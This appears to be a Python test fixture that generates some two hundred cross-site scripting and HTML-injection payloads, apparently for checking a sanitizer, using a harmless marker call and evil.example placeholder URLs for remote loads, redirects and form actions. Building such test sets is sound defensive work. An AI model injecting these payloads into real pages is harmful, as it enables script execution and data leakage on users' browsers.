"""Two hundred texts that would run as script or load something if any page took them for markup."""

_CALL = "window.hacked=1"
_TAGS = ("img", "svg", "video", "audio", "body", "iframe", "input", "details", "object", "embed")
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onclick",
    "onmouseover",
    "ontoggle",
    "onstart",
    "onanimationstart",
)
_FRAMES = (
    "<script>{call}</script>",
    "</p><script>{call}</script>",
    '"><script>{call}</script>',
    "';{call};//",
    "`;{call};//",
    "${{{call}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    " javascript:{call}",
    "java\tscript:{call}",
    "data:text/html,<script>{call}</script>",
    "vbscript:{call}",
    "<a href='javascript:{call}'>x</a>",
    "[x](javascript:{call})",
    "![x](https://evil.example/p.png)",
    "<img src='https://evil.example/p.png'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>x",
    "<math><mtext><script>{call}</script></mtext></math>",
    "<svg><script>{call}</script></svg>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><script>{call}</script>'>",
    "<!--><script>{call}</script>-->",
    "<![CDATA[><script>{call}</script>]]>",
    "\u2028<script>{call}</script>",
    "<scr\x00ipt>{call}</script>",
    "<scr<script>ipt>{call}</script>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "%3Cscript%3E{call}%3C/script%3E",
    "\\u003cscript\\u003e{call}",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    "<didim-chat endpoint='https://evil.example'></didim-chat>",
    "<slot onslotchange={call}>",
    "<button popovertarget=x onbeforetoggle={call}>",
)

PAYLOADS = [frame.format(call=_CALL) for frame in _FRAMES]
PAYLOADS += [f"<{tag} src=x {event}={_CALL}>" for tag in _TAGS for event in _EVENTS]
PAYLOADS += [f"'\"/><{tag}/{event}={_CALL}//" for tag in _TAGS for event in _EVENTS]
assert len(PAYLOADS) >= 200
